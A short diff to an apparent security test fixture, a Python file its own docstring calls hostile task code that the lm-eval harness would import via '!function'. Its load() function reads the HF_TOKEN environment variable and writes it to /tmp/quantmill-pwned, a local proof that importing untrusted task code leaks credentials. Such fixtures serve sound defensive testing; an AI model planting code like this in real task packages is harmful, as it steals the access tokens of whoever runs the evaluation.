@@ -1,3 +1,8 @@
+"""Hostile task code: what lm-eval would import for !function."""
+
 import os
+import pathlib
+
+
 def load(**kwargs):
-    open('/tmp/quantmill-pwned', 'w').write(os.environ.get('HF_TOKEN', ''))
+    pathlib.Path("/tmp/quantmill-pwned").write_text(os.environ.get("HF_TOKEN", ""))
